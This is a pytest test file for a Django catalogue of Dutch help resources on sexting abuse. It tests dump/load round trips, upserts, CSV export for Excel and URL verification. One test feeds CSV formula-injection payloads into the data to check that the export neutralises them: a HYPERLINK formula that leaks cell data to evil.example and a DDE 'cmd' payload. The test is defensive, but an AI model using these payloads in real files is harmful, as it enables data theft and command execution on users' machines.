"""Export and re-import through the real ``dumpmap`` and ``loadmap`` commands.

B. Round trips are lossless (YAML and JSON, byte for byte), upserts change only what
   changed, ``--replace`` removes the rest, and the CSV export suits Dutch Excel safely.
C. The facts of the printed map survive loading and dumping exactly, URLs are honest
   (``url_verified`` only where shared/reference/urls.md confirms the address), and the
   descriptions are our own words, not sentences copied from the printed map.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml
from django.core.management import call_command
from django.utils.text import slugify

from bronwijzer.catalog import services
from bronwijzer.catalog.mapfile.writer import CSV_COLUMNS
from bronwijzer.catalog.models import GlossaryTerm, HelpLine, Map, Organisation, Resource, Section
from tests.catalog.support import empty_catalog

pytestmark = pytest.mark.django_db

MODELS = (Map, Section, Organisation, Resource, GlossaryTerm, HelpLine)
KINDS = ("sections", "organisations", "resources", "glossary", "helplines")
SHARED = Path(__file__).resolve().parents[3] / "shared"
URLS_MD = SHARED / "reference" / "urls.md"
SEED = SHARED / "seed" / "overzichtskaart-sexting-misbruik-2025.txt"


# --- helpers ----------------------------------------------------------------------------------


@pytest.fixture
def loaded(default_map_module, db) -> bytes:
    """The default map is in the database (each test runs in its own savepoint)."""
    assert Resource.objects.count() == 43
    return default_map_module


@pytest.fixture(scope="module")
def exported(default_map_module) -> dict:
    """``dumpmap --format json`` of the freshly loaded default map, parsed."""
    return json.loads(default_map_module)


def dumpmap(fmt: str, path: Path | None = None) -> bytes:
    if path is None:
        out = io.StringIO()
        call_command("dumpmap", "--format", fmt, stdout=out)
        return out.getvalue().encode("utf-8")
    call_command("dumpmap", "--format", fmt, "-o", str(path), stderr=io.StringIO())
    return path.read_bytes()


def loadmap(path: Path, *args: str) -> str:
    out = io.StringIO()
    call_command("loadmap", str(path), *args, stdout=out)
    return out.getvalue()


def counts(report: str) -> dict[str, tuple[int, int]]:
    """``{"resources": (new, updated), ...}`` from a loadmap report line."""
    found = {
        kind: (int(new), int(upd))
        for kind, new, upd in re.findall(r"(\w+): (\d+) new, (\d+) updated", report)
    }
    assert set(found) == set(KINDS), report
    return found


def write_json(path: Path, document: dict) -> Path:
    path.write_text(json.dumps(document, ensure_ascii=False, indent=2), encoding="utf-8")
    return path


# --- B. lossless round trips ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "how"),
    [
        ("yaml", "empty"),
        ("json", "empty"),
        ("json", "empty-replace"),
        ("yaml", "replace-changed"),
        ("json", "replace-changed"),
    ],
)
def test_dump_load_dump_is_byte_identical(loaded, tmp_path, fmt, how):
    """dump -> load into an empty (or drifted) database -> dump gives the same bytes."""
    first = dumpmap(fmt, tmp_path / f"first.{fmt}")
    if how == "replace-changed":  # a database that has drifted from the file
        Resource.objects.filter(position__lt=10).update(title="Iets anders", age_min=None, languages=["en"])
        GlossaryTerm.objects.filter(slug="doxing").delete()
        Organisation.objects.create(slug="nieuw", name="Nieuwe organisatie")
        assert dumpmap(fmt) != first
    else:
        empty_catalog()
    report = loadmap(tmp_path / f"first.{fmt}", *(() if how == "empty" else ("--replace",)))
    if how.startswith("empty"):
        assert counts(report)["resources"] == (43, 0)
    assert dumpmap(fmt, tmp_path / f"second.{fmt}") == first
    assert dumpmap(fmt) == first  # standard output gives the same bytes as -o FILE


def test_the_colophon_authors_and_descriptive_titles_survive_dump_and_load(loaded, tmp_path):
    """The new structured fields go file -> database -> file unchanged, through the real commands."""
    written = yaml.safe_load(services.DEFAULT_MAP_PATH.read_text("utf-8"))
    assert Map.objects.get().colophon == written["map"]["colophon"]
    path = tmp_path / "map.yaml"
    dumpmap("yaml", path)
    empty_catalog()
    loadmap(path)
    reloaded = Map.objects.get()
    assert reloaded.colophon == written["map"]["colophon"]
    assert [(line.label, line.label_en, line.value) for line in reloaded.colophon_lines] == [
        (line["label"], line["label_en"], line["value"]) for line in written["map"]["colophon"]
    ]
    for entry in written["resources"]:
        resource = Resource.objects.get(slug=entry["slug"])
        assert (resource.authors, resource.title_descriptive) == (
            entry["authors"],
            entry["title_descriptive"],
        )
    assert Resource.objects.get(slug="help-ik-sta-online").authors == ["Francien Regelink"]
    assert not Organisation.objects.filter(name="Francien Regelink").exists()


def test_yaml_and_json_dumps_carry_the_same_map(loaded, tmp_path):
    json_dump = dumpmap("json")
    yaml_path = tmp_path / "map.yaml"
    yaml_dump = dumpmap("yaml", yaml_path)
    assert yaml.safe_load(yaml_dump) == json.loads(json_dump)
    empty_catalog()
    loadmap(yaml_path)
    assert dumpmap("json") == json_dump


def test_the_dump_is_what_the_fixture_loaded(loaded):
    assert dumpmap("json") == loaded
    assert dumpmap("json") == services.map_export("json").encode("utf-8")


def test_loading_the_default_map_twice_without_replace_changes_nothing(loaded):
    history = [model.history.count() for model in (Section, Organisation, Resource, GlossaryTerm, HelpLine)]
    for _ in range(2):
        out = io.StringIO()
        call_command("loadmap", "--default", stdout=out)
        assert all(pair == (0, 0) for pair in counts(out.getvalue()).values()), out.getvalue()
        assert "removed" not in out.getvalue()
        assert dumpmap("json") == loaded
    assert [m.history.count() for m in (Section, Organisation, Resource, GlossaryTerm, HelpLine)] == history


def test_upsert_of_a_partial_file_updates_only_the_changed_resource(loaded, exported, tmp_path):
    changed = dict(next(r for r in exported["resources"] if r["slug"] == "escaperoom-het-stopt-bij-jou"))
    changed["title"] = "Het stopt bij jou! (tweede druk)"
    changed["languages"] = ["nl", "en"]
    report = loadmap(write_json(tmp_path / "partial.json", {"resources": [changed]}))
    assert counts(report) == {kind: (0, 1 if kind == "resources" else 0) for kind in KINDS}
    after = json.loads(dumpmap("json"))
    expected = json.loads(loaded)
    index = next(i for i, r in enumerate(expected["resources"]) if r["slug"] == changed["slug"])
    expected["resources"][index] = changed  # same place in the printed order, everything else equal
    assert after == expected


def test_upsert_of_a_new_resource_appends_it_and_keeps_the_rest(loaded, exported, tmp_path):
    new = dict(
        exported["resources"][0], slug="nieuwe-bron", title="Nieuwe bron", url=None, url_verified=False
    )
    report = loadmap(write_json(tmp_path / "new.json", {"resources": [new]}))
    assert counts(report)["resources"] == (1, 0)
    after = json.loads(dumpmap("json"))
    assert after["resources"][:43] == exported["resources"]
    assert after["resources"][43] == new
    assert {k: v for k, v in after.items() if k != "resources"} == {
        k: v for k, v in exported.items() if k != "resources"
    }


def test_replace_with_a_smaller_file_removes_the_rest(loaded, exported, tmp_path):
    keep = {"glossary": {"sexting-misbruik", "ongewenste-sexting"}}
    smaller = {
        "map": exported["map"],
        "sections": exported["sections"],
        "organisations": exported["organisations"],
        "resources": exported["resources"][:5],
        "glossary": [
            {**term, "related": [s for s in term["related"] if s in keep["glossary"]]}
            for term in exported["glossary"]
            if term["slug"] in keep["glossary"]
        ],
        "helplines": exported["helplines"][:3],
    }
    kept_ids = {
        r.slug: r.pk for r in Resource.objects.filter(slug__in=[r["slug"] for r in smaller["resources"]])
    }
    report = loadmap(write_json(tmp_path / "smaller.json", smaller), "--replace")
    assert "resources: 0 new, 0 updated, 38 removed" in report
    assert "glossary: 0 new, 1 updated, 4 removed" in report  # one lost a related term
    assert "helplines: 0 new, 0 updated, 8 removed" in report
    # what stays keeps its identity, and so its edit history
    assert {r.slug: r.pk for r in Resource.objects.all()} == kept_ids
    assert all(Resource.objects.get(pk=pk).history.count() == 1 for pk in kept_ids.values())
    assert list(Resource.objects.values_list("slug", flat=True)) == [r["slug"] for r in smaller["resources"]]
    assert set(GlossaryTerm.objects.values_list("slug", flat=True)) == keep["glossary"]
    assert HelpLine.objects.count() == 3
    assert json.loads(dumpmap("json")) == smaller


def test_upsert_without_replace_keeps_what_the_file_does_not_mention(loaded, exported, tmp_path):
    report = loadmap(write_json(tmp_path / "one.json", {"resources": exported["resources"][:1]}))
    assert counts(report)["resources"] == (0, 0)
    assert Resource.objects.count() == 43
    assert dumpmap("json") == loaded


# --- B. CSV for Dutch Excel -----------------------------------------------------------------------


def parse_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_csv_is_utf8_with_bom_semicolons_and_crlf(loaded, tmp_path):
    data = dumpmap("csv", tmp_path / "map.csv")
    assert data.startswith(b"\xef\xbb\xbfslug;title;title_descriptive;url;")
    assert data.endswith(b"\r\n")
    assert data.count(b"\n") == data.count(b"\r\n") == 1 + 43  # no bare LF: one CRLF per record
    rows = parse_csv(data)
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 1 + 43
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
    assert [row[0] for row in rows[1:]] == list(Resource.objects.values_list("slug", flat=True))
    escape = dict(zip(rows[0], next(r for r in rows if r[0] == "escaperoom-het-stopt-bij-jou"), strict=True))
    assert (escape["title"], escape["age_min"], escape["age_max"]) == ("Het stopt bij jou!", "11", "17")
    assert escape["url_verified"] == "ja"
    mediagesprek = dict(zip(rows[0], next(r for r in rows if r[0] == "mediagesprek"), strict=True))
    assert mediagesprek["languages"] == "nl | en | fr | tr | ar"
    assert mediagesprek["language_modes"].startswith("nl: eenvoudig | en: tekst")
    assert mediagesprek["url"] == ""
    book = dict(zip(rows[0], next(r for r in rows if r[0] == "help-ik-sta-online"), strict=True))
    assert (book["authors"], book["organisations"], book["title_descriptive"]) == (
        "Francien Regelink",
        "",
        "nee",
    )


def test_csv_round_trips_separators_quotes_and_newlines(loaded):
    titles = {
        "praten-over-sexting-misbruik": "Praten; over sexting misbruik",
        "animatievideo-sexting-misbruik": 'De "echte" video; deel 2',
        "mediagesprek": "Het Mediagesprek\nop twee regels",
        "helpwanted": 'Alles: ; " \r\n ;; ""',
    }
    for slug, title in titles.items():
        Resource.objects.filter(slug=slug).update(title=title, summary=title + '\nTweede regel; met "quotes"')
    rows = parse_csv(dumpmap("csv"))
    assert len(rows) == 1 + 43
    by_slug = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    for slug, title in titles.items():
        assert by_slug[slug]["title"] == title
        assert by_slug[slug]["summary"] == title + '\nTweede regel; met "quotes"'


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_neutralises_cells_a_spreadsheet_would_run(loaded, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1;"klik")'
    Resource.objects.filter(slug="helpwanted").update(
        title=formula, summary=f"{start}1+1", explicitness_note=f"{start}cmd|' /C calc'!A0"
    )
    Organisation.objects.create(slug="formule", name=f"{start}SUM(1;2)")
    meldknop = Resource.objects.get(slug="meldknop")
    meldknop.organisations = ["formule", "ecp-digibewust"]
    meldknop.save()
    rows = parse_csv(dumpmap("csv"))
    by_slug = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_slug["helpwanted"]["title"] == "'" + formula
    assert by_slug["helpwanted"]["summary"] == f"'{start}1+1"
    assert by_slug["helpwanted"]["explicitness_note"] == f"'{start}cmd|' /C calc'!A0"
    assert by_slug["meldknop"]["organisations"] == f"'{start}SUM(1;2) | ECP / Digibewust"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- C. the facts of the printed map, carried exactly ---------------------------------------------


def walk(value, key=None):
    """Every (key, scalar) pair in a nested document."""
    if isinstance(value, dict):
        for k, v in value.items():
            yield from walk(v, k)
    elif isinstance(value, list):
        for item in value:
            yield from walk(item, key)
    else:
        yield key, value


def resource(exported: dict, **match) -> dict:
    found = [r for r in exported["resources"] if all(r[k] == v for k, v in match.items())]
    assert len(found) == 1, match
    return found[0]


def test_counts(exported):
    assert len(exported["resources"]) == 43
    assert len(exported["glossary"]) == 6
    assert len(exported["helplines"]) >= 5
    assert len({r["slug"] for r in exported["resources"]}) == 43


def test_escape_room_ages(exported):
    escape = resource(exported, title="Het stopt bij jou!")
    assert (escape["age_min"], escape["age_max"]) == (11, 17)


def test_mediagesprek_languages_and_easy_dutch(exported):
    gesprek = resource(exported, title="Het Mediagesprek")
    assert set(gesprek["languages"]) == {"nl", "en", "fr", "tr", "ar"}
    assert len(gesprek["languages"]) == 5
    assert "eenvoudig" in gesprek["language_modes"]["nl"]


def test_helpwanted_is_free(exported):
    assert resource(exported, slug="helpwanted")["cost"] == "free"
    assert "Helpwanted" in resource(exported, slug="helpwanted")["title"]


def test_internet_matters_guide_is_english_only(exported):
    guides = [
        r for r in exported["resources"] if any(o["name"] == "Internet Matters" for o in r["organisations"])
    ]
    assert len(guides) == 1
    assert guides[0]["languages"] == ["en"]


def test_kis_animation_sits_in_two_sections(exported):
    animation = resource(exported, slug="animatievideo-sexting-misbruik")
    assert "video" in animation["formats"]
    assert [o["name"] for o in animation["organisations"]] == ["Kennisplatform Inclusief Samenleven (KIS)"]
    assert len(animation["sections"]) == 2
    assert len(set(animation["sections"])) == 2


def test_no_placeholder_links_anywhere(exported, loaded):
    for text in (
        loaded.decode("utf-8"),
        services.map_export("yaml"),
        services.DEFAULT_MAP_PATH.read_text("utf-8"),
    ):
        assert "(#)" not in text
    for _key, value in walk(exported):
        if isinstance(value, str):
            assert value.strip() != "#"
            assert "(#)" not in value


def test_every_url_is_http_or_https_with_a_host(exported):
    urls = [(key, value) for key, value in walk(exported) if key in ("url", "source_url")]
    assert len(urls) > 43
    for key, value in urls:
        if value is None:
            continue
        parts = urlsplit(value)
        assert parts.scheme in ("http", "https"), (key, value)
        assert parts.hostname and "." in parts.hostname, (key, value)


def confirmed_urls(markdown: str) -> set[str]:
    """URLs on the table rows of urls.md whose Confidence column says "confirmed"."""
    urls: set[str] = set()
    column = None
    for line in markdown.splitlines():
        if not line.startswith("|"):
            column = None  # a table ended
            continue
        cells = [cell.strip() for cell in line.strip().strip("|").split("|")]
        if "Confidence" in cells:
            column = cells.index("Confidence")
        elif (
            column is not None and not set(line) <= set("|-: ") and re.match(r"\**confirmed\b", cells[column])
        ):
            urls.update(
                url.rstrip(".,;") for cell in cells for url in re.findall(r"https?://[^\s|()]+", cell)
            )
    return urls


def test_url_verified_only_for_confirmed_urls(exported):
    if not URLS_MD.exists():
        pytest.skip(f"{URLS_MD} is not available")
    confirmed = confirmed_urls(URLS_MD.read_text("utf-8"))
    assert "https://www.helpwanted.nl" in confirmed  # the parser found the tables
    assert "https://www.kis.nl" not in confirmed  # homepage only
    assert "https://nji.nl/mediaopvoeding/toolbox/mediagebruik-13-16-jarigen" not in confirmed  # related
    assert len(confirmed) >= 20
    verified = [
        (kind, entry["slug"], entry["url"])
        for kind in ("resources", "organisations")
        for entry in exported[kind]
        if entry["url_verified"]
    ]
    assert verified
    for kind, slug, url in verified:
        assert url in confirmed, f"{kind} {slug}: url_verified, but {url} is not confirmed in urls.md"
    for entry in exported["resources"]:
        if entry["url"] is None:
            assert entry["url_verified"] is False, entry["slug"]


def seed_text() -> str:
    if not SEED.exists():
        pytest.skip(f"{SEED} is not available")
    text = SEED.read_text("utf-8")
    text = re.sub(r"\[([^\]]*)\]\([^)]*\)", r"\1", text)  # [link text](#) -> link text
    return text.replace("*", "")


def test_the_six_glossary_terms_of_the_print(exported):
    text = seed_text()
    block = text.split("BEGRIPPENLIJST", 1)[1].split("Meer informatie?", 1)[0]
    paragraphs = [p.strip() for p in block.split("\n") if p.strip()]
    printed_terms = paragraphs[0::2]  # term, definition, term, definition, ...
    assert len(printed_terms) == 6
    assert [(g["slug"], g["term"]) for g in exported["glossary"]] == [(slugify(t), t) for t in printed_terms]
    for term in exported["glossary"]:
        assert term["definition"] and term["definition_en"]


def normalise(text: str) -> str:
    return " ".join(re.sub(r"[^\w\s]", " ", text.lower()).split())


def test_descriptions_are_in_our_own_words(exported):
    sentences = [
        s for s in (normalise(s) for s in re.split(r"(?<=[.!?:])\s+|\n+", seed_text())) if len(s.split()) >= 8
    ]
    assert len(sentences) > 60
    prose_fields = ("summary", "summary_en", "definition", "definition_en", "helps_with", "intro", "note")
    prose = [
        (key, normalise(value))
        for key, value in walk(exported)
        if key in prose_fields and isinstance(value, str)
    ]
    assert len(prose) > 100
    copied = [(key, sentence) for sentence in sentences for key, text in prose if sentence in text]
    assert not copied, "copied from the printed map:\n" + "\n".join(f"{k}: {s}" for k, s in copied)
